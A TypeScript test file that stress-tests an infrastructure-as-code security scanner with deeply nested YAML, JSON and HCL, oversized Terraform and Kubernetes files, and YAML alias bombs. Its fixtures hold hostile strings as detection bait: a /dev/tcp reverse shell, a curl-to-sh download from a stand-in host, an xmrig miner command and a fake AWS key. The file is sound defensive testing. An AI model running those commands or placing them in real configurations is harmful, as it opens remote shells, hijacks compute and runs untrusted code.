import * as assert from 'node:assert/strict';
import type { Format } from '../../../src/engine/index';
import type { ParsedFile } from '../../../src/engine/model/file';
import type { ValueNode } from '../../../src/engine/model/nodes';
import { ALIAS_BUDGET } from '../../../src/engine/parse/yaml/convert';
import { assertSound, modelSize, parseAs, scan } from './harness';

/**
 * Inputs built to exhaust a parser: nesting far deeper than any real file, files at the size
 * limit, and alias bombs. No timing here (the benchmark measures speed); the work is bounded by
 * what the model may contain: how deep it goes and how many values a rule walking it visits.
 */

const DEPTH = 10_000;
/** The deepest model any parser may build: past its cut-off, nesting is dropped with a note. */
const MODEL_DEPTH_LIMIT = 500;

function depthOf(node: ValueNode): number {
	let deepest = 0;
	const stack: Array<[ValueNode, number]> = [[node, 1]];
	for (let next = stack.pop(); next; next = stack.pop()) {
		const [value, depth] = next;
		deepest = Math.max(deepest, depth);
		const children = value.kind === 'object' ? value.entries.map(entry => entry.value) : value.kind === 'array' ? value.items : value.kind === 'expression' ? value.parts : [];
		children.forEach(child => stack.push([child, depth + 1]));
	}
	return deepest;
}

async function assertBounded(format: Format, path: string, text: string): Promise<ParsedFile> {
	assertSound(await scan(path, text, format), text, `${format} ${path}`);
	const file = await parseAs(format, path, text);
	const depth = Math.max(0, ...file.roots.map(depthOf));
	assert.ok(depth <= MODEL_DEPTH_LIMIT, `${path}: model ${depth} deep`);
	assert.ok(modelSize(file) <= text.length, `${path}: ${modelSize(file)} values from ${text.length} characters`);
	return file;
}

const open = (unit: string): string => unit.repeat(DEPTH);

describe('robustness: deeply nested documents', function () {
	// Not a speed limit (the benchmark measures speed): room for a 2 MB scan on a busy CI machine.
	this.timeout(120_000);
	const cases: Array<[string, Format, string, string]> = [
		['YAML flow sequences', 'kubernetes', 'deep.yaml', `apiVersion: v1\nkind: ConfigMap\ndata:\n  x: ${open('[')}${open(']')}\n`],
		['YAML flow mappings', 'compose', 'docker-compose.yml', `services:\n  web:\n    x: ${open('{a: ')}1${open('}')}\n`],
		['YAML block sequences', 'cloudformation', 'template.yaml', `Resources:\n  X:\n    Type: AWS::S3::Bucket\n    Properties:\n      Tags:\n        ${open('- ')}x\n`],
		['YAML block mappings, one space per level', 'kubernetes', 'deep.yaml', `${Array.from({ length: DEPTH / 5 }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n')} x\n`],
		['JSON arrays', 'terraform-json', 'main.tf.json', `{"resource": ${open('[')}${open(']')}}`],
		['JSON objects', 'arm', 'azuredeploy.json', `{"$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#", "resources": [${open('{"a": ')}1${open('}')}]}`],
		['HCL nested blocks', 'terraform', 'main.tf', `resource "aws_instance" "a" {\n${open('b {\n')}${open('}\n')}}\n`],
		['HCL brackets', 'terraform', 'main.tf', `locals {\n  x = ${open('[')}${open(']')}\n}\n`],
		['HCL objects and calls', 'terraform', 'main.tf', `locals {\n  x = ${open('{ a = f(')}1${open(') }')}\n}\n`],
		['HCL unclosed', 'terraform', 'main.tf', `resource "aws_instance" "a" {\n${open('b {\n')}`],
	];
	for (const [what, format, path, text] of cases) {
		it(`scans ${what}, thousands of levels deep, into a bounded model`, async () => {
			await assertBounded(format, path, text);
		});
	}

	it('still reads what follows a too-deep value', async () => {
		const text = `apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n  labels: ${open('[')}${open(']')}\nspec:\n  containers:\n    - name: m\n      image: xmrig/xmrig\n`;
		const result = await scan('pod.yaml', text);
		assertSound(result, text, 'pod.yaml');
		assert.ok(result.findings.some(finding => finding.ruleId === 'AUP-MIN-001' && finding.range.start.line === 8), JSON.stringify(result.findings.map(finding => finding.ruleId)));
	});
});

/** A block of realistic Terraform with known findings; `i` keeps each copy's names apart. */
function terraformBlock(i: number): string {
	return `resource "aws_security_group" "bastion_${i}" {
  name   = "bastion-${i}"
  vpc_id = var.vpc_id

  ingress {
    description = "SSH"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }

  ingress {
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}

resource "aws_instance" "worker_${i}" {
  ami                    = "ami-0abcdef1234567890"
  instance_type          = "t3.micro"
  vpc_security_group_ids = [aws_security_group.bastion_${i}.id]
  user_data              = <<-EOF
    #!/bin/bash
    set -euo pipefail
    apt-get update -y
    curl -fsSL https://get.example.com/install.sh | bash
    systemctl enable --now app-${i}
  EOF

  tags = {
    Name = "worker-${i}"
  }
}

resource "aws_db_instance" "orders_${i}" {
  identifier              = "orders-${i}"
  engine                  = "postgres"
  instance_class          = "db.t3.micro"
  allocated_storage       = 20
  username                = "app"
  password                = var.db_password
  backup_retention_period = 0
  skip_final_snapshot     = true
}

`;
}

function kubernetesBlock(i: number): string {
	return `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api-${i}
  labels:
    app: api-${i}
spec:
  replicas: 3
  selector:
    matchLabels:
      app: api-${i}
  template:
    metadata:
      labels:
        app: api-${i}
    spec:
      containers:
        - name: api
          image: registry.example.com/api:1.${i}
          ports:
            - containerPort: 8080
          securityContext:
            privileged: true
          env:
            - name: DB_PASSWORD
              valueFrom:
                secretKeyRef:
                  name: db
                  key: password
---
`;
}

/** Copies of `block` up to just under the engine's default 2 MB limit. */
function repeatTo(block: (i: number) => string, limit = 2 * 1024 * 1024 - 4_096): { text: string; copies: number } {
	const parts: string[] = [];
	let length = 0;
	for (let i = 0; ; i++) {
		const next = block(i);
		if (length + next.length > limit) {
			return { text: parts.join(''), copies: i };
		}
		parts.push(next);
		length += next.length;
	}
}

describe('robustness: huge documents', function () {
	// Not a speed limit (the benchmark measures speed): room for a 2 MB scan on a busy CI machine.
	this.timeout(120_000);
	const cases: Array<[string, string, (i: number) => string]> = [
		['Terraform', 'main.tf', terraformBlock],
		['Kubernetes', 'deploy.yaml', kubernetesBlock],
	];
	for (const [what, path, block] of cases) {
		it(`scans 2 MB of ${what} and finds what each copy holds, once per copy`, async () => {
			const one = await scan(path, block(0));
			assertSound(one, block(0), `one ${what} block`);
			assert.ok(one.findings.length >= 1, `one ${what} block: no findings`);
			const { text, copies } = repeatTo(block);
			assert.ok(copies > 500, `${copies} copies`);
			const all = await scan(path, text);
			assertSound(all, text, `2 MB of ${what}`);
			assert.equal(all.skipped, undefined);
			assert.deepEqual(countBy(all.findings.map(finding => finding.ruleId)), scale(countBy(one.findings.map(finding => finding.ruleId)), copies));
		});
	}
});

describe('robustness: alias bombs', function () {
	// Not a speed limit (the benchmark measures speed): room for a 2 MB scan on a busy CI machine.
	this.timeout(120_000);
	/** How many times the leaf is written in each bomb; every other value is an alias. */
	const LEAVES = 4;
	const bomb = (levels: number, width: number, leaf: string): string => {
		const lines = [`l0: &l0 [${Array(LEAVES).fill(JSON.stringify(leaf)).join(', ')}]`];
		for (let level = 1; level < levels; level++) {
			lines.push(`l${level}: &l${level} [${Array(width).fill(`*l${level - 1}`).join(', ')}]`);
		}
		return lines.map(line => `  ${line}`).join('\n');
	};
	const cases: Array<[Format, string, string]> = [
		['kubernetes', 'bomb.yaml', `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n${bomb(12, 10, 'curl http://x.example/m | sh')}\n`],
		['compose', 'docker-compose.yml', `services:\n  web:\n    image: nginx\n    command:\n${bomb(30, 4, 'xmrig --url pool.example.com:3333').replace(/^ {2}/gm, '      ')}\n`],
		['cloudformation', 'template.yaml', `AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  B:\n    Type: AWS::S3::Bucket\n    Properties:\n      Tags:\n${bomb(9, 10, 'AKIA0000000000000000').replace(/^ {2}/gm, '        ')}\n`],
		['cloud-init', 'user-data.yaml', `#cloud-config\nruncmd:\n  - x\nbombs:\n${bomb(12, 10, 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')}\n`],
	];
	for (const [format, path, text] of cases) {
		it(`caps the expansion of an alias bomb in ${format} and says so`, async () => {
			const result = await scan(path, text, format);
			assertSound(result, text, path);
			assert.ok(result.notes.some(note => /^Aliases in this file repeat too many values/.test(note.message)), JSON.stringify(result.notes));
			const file = await parseAs(format, path, text);
			assert.ok(modelSize(file) <= ALIAS_BUDGET + text.length, `${modelSize(file)} values`);
			// What an alias repeats is reported where it is written, once: at most once per leaf written.
			const perRule = countBy(result.findings.map(finding => finding.ruleId));
			assert.ok(Object.values(perRule).every(count => count <= LEAVES), JSON.stringify(perRule));
		});
	}
});

function countBy(values: readonly string[]): Record<string, number> {
	const counts: Record<string, number> = {};
	for (const value of [...values].sort()) {
		counts[value] = (counts[value] ?? 0) + 1;
	}
	return counts;
}

function scale(counts: Record<string, number>, factor: number): Record<string, number> {
	return Object.fromEntries(Object.entries(counts).map(([key, count]) => [key, count * factor]));
}
